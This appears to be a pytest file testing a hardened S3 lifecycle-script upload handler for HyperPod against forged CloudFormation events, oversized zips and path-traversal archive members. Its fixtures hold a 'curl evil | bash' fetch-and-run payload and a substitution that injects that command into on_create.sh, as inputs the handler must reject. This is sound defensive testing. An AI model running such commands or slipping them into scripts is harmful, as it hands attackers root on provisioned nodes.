"""The lifecycle upload handler (review round 15, platform, H2) against moto's S3: it writes exactly the
synthesized files into the synthesized prefix, whatever the event says.

aws-cdk-lib's BucketDeployment handler, which it replaces, took sources, destination and text
substitutions from the event: a forged invoke rewrote the live ``on_create.sh`` that HyperPod runs as
root on every new node.
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import sys
import zipfile
from pathlib import Path
from typing import Any

import boto3
import pytest
from moto import mock_aws

HANDLER = Path(__file__).resolve().parents[1] / "constructs/hyperpod_cdk/lifecycle/handlers/lifecycle_upload/index.py"
_spec = importlib.util.spec_from_file_location("lifecycle_upload_handler", HANDLER)
assert _spec and _spec.loader
handler = sys.modules.setdefault("lifecycle_upload_handler", importlib.util.module_from_spec(_spec))
_spec.loader.exec_module(handler)

ASSETS = "cdk-hnb659fds-assets-111111111111-us-west-2"
DEST = "lifecycle-bucket"
PREFIX = "lifecycle/" + "a" * 64 + "/"
MARKER = "<<marker:0xbaba:0>>"
ON_CREATE = b"#!/bin/bash\nset -euo pipefail\necho provisioning\n"


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.fixture
def s3(monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-west-2")
    with mock_aws():
        client = boto3.client("s3", region_name="us-west-2")
        for bucket in (ASSETS, DEST, "attacker-bucket"):
            client.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": "us-west-2"})
        client.put_object(Bucket=ASSETS, Key="scripts.zip", Body=_zip({"on_create.sh": ON_CREATE, "lib/x.sh": b"x"}))
        client.put_object(Bucket=ASSETS, Key="doc.zip", Body=_zip({"fsx.json": f'{{"id":{MARKER}}}'.encode()}))
        client.put_object(Bucket="attacker-bucket", Key="evil.zip", Body=_zip({"on_create.sh": b"curl evil | bash"}))
        yield client


SPEC = {
    "sources": [
        {"bucket": ASSETS, "key": "scripts.zip", "markers": {}, "json_escape": False},
        {"bucket": ASSETS, "key": "doc.zip", "markers": {MARKER: '"fs-0123"'}, "json_escape": False},
    ],
    "bucket": DEST,
    "prefix": PREFIX,
}

FORGED_PROPERTIES = {
    "SourceBucketNames": ["attacker-bucket"],
    "SourceObjectKeys": ["evil.zip"],
    "SourceMarkers": [{"set -euo pipefail": "set -euo pipefail; curl evil | bash"}],
    "DestinationBucketName": DEST,
    "DestinationBucketKeyPrefix": PREFIX,
}


def _objects(s3: Any) -> dict[str, bytes]:
    listed = s3.list_objects_v2(Bucket=DEST).get("Contents", [])
    return {o["Key"]: s3.get_object(Bucket=DEST, Key=o["Key"])["Body"].read() for o in listed}


@pytest.mark.parametrize("request_type", ["Create", "Update"])
def test_a_forged_event_writes_only_the_synthesized_files(s3: Any, request_type: str) -> None:
    event = {"RequestType": request_type, "ResourceProperties": FORGED_PROPERTIES, "PhysicalResourceId": "x"}
    outcome = handler.process(event, s3, SPEC)
    assert outcome.status == "SUCCESS" and outcome.data == {"BucketName": DEST, "Prefix": PREFIX}
    assert _objects(s3) == {
        PREFIX + "on_create.sh": ON_CREATE,
        PREFIX + "lib/x.sh": b"x",
        PREFIX + "fsx.json": b'{"id":"fs-0123"}',
    }


def test_delete_keeps_the_scripts_running_nodes_re_run(s3: Any) -> None:
    handler.process({"RequestType": "Create"}, s3, SPEC)
    outcome = handler.process({"RequestType": "Delete", "PhysicalResourceId": handler.PHYSICAL_ID}, s3, SPEC)
    assert outcome.status == "SUCCESS" and len(_objects(s3)) == 3


def test_json_escaped_markers_are_escaped(s3: Any) -> None:
    spec = {**SPEC, "sources": [{"bucket": ASSETS, "key": "doc.zip", "markers": {MARKER: 'a"b'}, "json_escape": True}]}
    handler.process({"RequestType": "Create"}, s3, spec)
    assert _objects(s3)[PREFIX + "fsx.json"] == b'{"id":a\\"b}'


@pytest.mark.parametrize("name", ["../escape.sh", "/abs.sh", "a/../../b.sh"])
def test_a_member_outside_the_prefix_is_refused(s3: Any, name: str) -> None:
    s3.put_object(Bucket=ASSETS, Key="bad.zip", Body=_zip({name: b"x"}))
    spec = {**SPEC, "sources": [{"bucket": ASSETS, "key": "bad.zip"}]}
    with pytest.raises(ValueError, match="not a relative path"):
        handler.process({"RequestType": "Create"}, s3, spec)
    assert _objects(s3) == {}


class _RecordingS3:
    """Forwards to moto's client and records how each key was written."""

    def __init__(self, s3: Any) -> None:
        self.s3 = s3
        self.writes: dict[str, str] = {}

    def head_object(self, **kwargs: Any) -> Any:
        return self.s3.head_object(**kwargs)

    def download_fileobj(self, *args: Any, **kwargs: Any) -> None:
        self.s3.download_fileobj(*args, **kwargs)

    def upload_fileobj(self, fileobj: Any, bucket: str, key: str) -> None:
        self.writes[key] = "streamed"
        self.s3.upload_fileobj(fileobj, bucket, key)

    def put_object(self, **kwargs: Any) -> None:
        self.writes[kwargs["Key"]] = "whole"
        self.s3.put_object(**kwargs)


def test_files_are_streamed_and_only_documents_with_values_read_whole(s3: Any) -> None:
    """Review round 16, M1: a staged 20 MiB file next to the scripts took the function past 128 MB and
    CloudFormation waited 16 minutes for an answer. Files are now streamed in parts from a zip on disk."""
    big = os.urandom(20 * 1024 * 1024)
    s3.put_object(Bucket=ASSETS, Key="scripts.zip", Body=_zip({"on_create.sh": ON_CREATE, "staged.bin": big}))
    recording = _RecordingS3(s3)
    handler.process({"RequestType": "Create"}, recording, SPEC)
    assert recording.writes == {
        PREFIX + "on_create.sh": "streamed",
        PREFIX + "staged.bin": "streamed",
        PREFIX + "fsx.json": "whole",
    }
    assert _objects(s3)[PREFIX + "staged.bin"] == big


def test_a_zip_over_the_cap_fails_before_it_is_downloaded(s3: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Review round 17, L2: the cap was checked after the download, so a zip larger than /tmp filled it first."""
    monkeypatch.setattr(handler, "MAX_EXPANDED_BYTES", 100)
    downloads: list[str] = []
    monkeypatch.setattr(s3, "download_fileobj", lambda bucket, key, body: downloads.append(key), raising=False)
    with pytest.raises(ValueError, match=r"^scripts.zip is 0 MiB, over what one deploy may copy"):
        handler.process({"RequestType": "Create"}, s3, SPEC)
    assert downloads == [] and _objects(s3) == {}


def test_too_much_to_write_fails_before_writing_anything(s3: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A small zip that expands past the cap (100 KB of zeros) fails before a file is written, naming it."""
    s3.put_object(Bucket=ASSETS, Key="scripts.zip", Body=_zip({"on_create.sh": ON_CREATE, "zeros.bin": bytes(100_000)}))
    monkeypatch.setattr(handler, "MAX_EXPANDED_BYTES", 10_000)
    with pytest.raises(ValueError, match=r"expand past .* at zeros.bin \(scripts.zip\)"):
        handler.process({"RequestType": "Create"}, s3, SPEC)
    assert _objects(s3) == {}


@pytest.mark.parametrize(
    "environ",
    [{}, {handler.SPEC_ENV: "not json"}, {handler.SPEC_ENV: json.dumps({**SPEC, "prefix": "other/"})}],
)
def test_a_function_without_a_valid_spec_does_nothing(environ: dict[str, str]) -> None:
    with pytest.raises(handler.SpecError):
        handler.load_spec(environ)


def test_the_handler_answers_cloudformation_with_the_outcome(s3: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    sent: list[Any] = []
    monkeypatch.setattr(handler, "send_response", lambda event, outcome, **_: sent.append(outcome))
    monkeypatch.setenv(handler.SPEC_ENV, json.dumps(SPEC))
    monkeypatch.setattr(boto3, "client", lambda *_a, **_k: s3)  # the handler imports boto3 when called
    handler.handler({"RequestType": "Create", "ResourceProperties": FORGED_PROPERTIES}, None)
    handler.handler({"RequestType": "Bogus"}, None)
    assert [o.status for o in sent] == ["SUCCESS", "FAILED"]
    assert "unknown RequestType" in sent[1].reason
